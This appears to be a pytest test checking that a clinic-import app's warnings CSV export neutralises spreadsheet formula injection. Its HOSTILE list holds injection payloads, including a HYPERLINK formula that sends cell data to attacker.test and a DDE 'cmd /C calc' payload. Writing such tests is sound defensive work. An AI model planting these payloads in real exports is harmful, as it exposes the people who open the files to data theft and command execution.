"""Values from an imported file never become live formulas in the warnings spreadsheet."""

import csv
import io

import pytest

from dentalpin_import.models import ImportJob, ImportWarning

HOSTILE = [
    '=HYPERLINK("http://attacker.test/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.django_db
def test_every_cell_that_a_spreadsheet_would_evaluate_is_kept_as_text(staff_client, clinic):
    job = ImportJob.objects.create(clinic=clinic, status="succeeded")
    for value in HOSTILE:
        ImportWarning.objects.create(
            job=job, clinic=clinic, entity_type=value, source_id=value, code="x", message=value
        )
    ImportWarning.objects.create(
        job=job, clinic=clinic, entity_type="patient", source_id="P-1", code="x", message="fine"
    )
    response = staff_client.get(f"/import/jobs/{job.pk}/warnings.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))[1:]
    assert len(rows) == len(HOSTILE) + 1
    for row, value in zip(rows, HOSTILE, strict=False):
        entity_type, source_id, _, _, _, message, _, _, text = row
        assert entity_type == source_id == message == text == "'" + value
    assert rows[-1][:2] == ["patient", "P-1"]  # ordinary values are left as they are
